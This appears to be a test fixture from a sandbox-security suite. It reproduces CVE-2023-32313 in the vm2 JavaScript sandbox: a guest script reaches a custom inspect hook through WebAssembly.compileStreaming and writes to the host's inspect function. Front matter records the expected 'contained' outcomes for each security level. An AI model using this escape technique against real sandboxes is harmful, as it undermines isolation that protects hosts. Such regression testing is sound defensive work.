/*---
id: re-inspect-custom-06-writable-inspect
description: "CVE-2023-32313 as published: a custom inspect hook receives the
  host inspect and writes to it, which changes what the host's console prints."
kind: malicious
category: realm-escape
technique: RE-inspect-custom
variant: plain
references:
  - CVE-2023-32313
  - GHSA-p5gc-c584-jj6v
unproven: "Fixed in vm2 3.9.18 (the host inspect made read-only), below the oldest vm2 the suite installs (3.9.19). On 3.9.19 the hook still reports a successful write, but the write reaches no oracle tripwire, so the run shows only the guest's claim (a surface finding), not proof."
expect:
  ultra-secure:
    outcome: contained
    value: held
  high-security:
    outcome: contained
    value: held
  tenant-isolated:
    outcome: contained
    value: held
flags:
  - async
---*/
// CVE-2023-32313: the host `inspect` handed to a custom inspect hook was writable, so the guest could change
// how the host's console prints. The hook is reached through WebAssembly.compileStreaming's error message.
let verdict = 'held';
const hook = Symbol.for('nodejs.util.inspect.custom');
const bait = {
  [hook]: (depth, options, inspect) => {
    try {
      inspect.sandproofTouched = 'ESCAPED';
      if (inspect.sandproofTouched === 'ESCAPED') verdict = 'ESCAPED: the host inspect is writable';
    } catch (e) {}
    return '';
  },
  valueOf: undefined,
  constructor: undefined,
};
if (typeof WebAssembly === 'object' && typeof WebAssembly.compileStreaming === 'function') {
  await WebAssembly.compileStreaming(bait).catch(() => {});
}
for (let i = 0; i < 20; i++) await null;
return verdict;
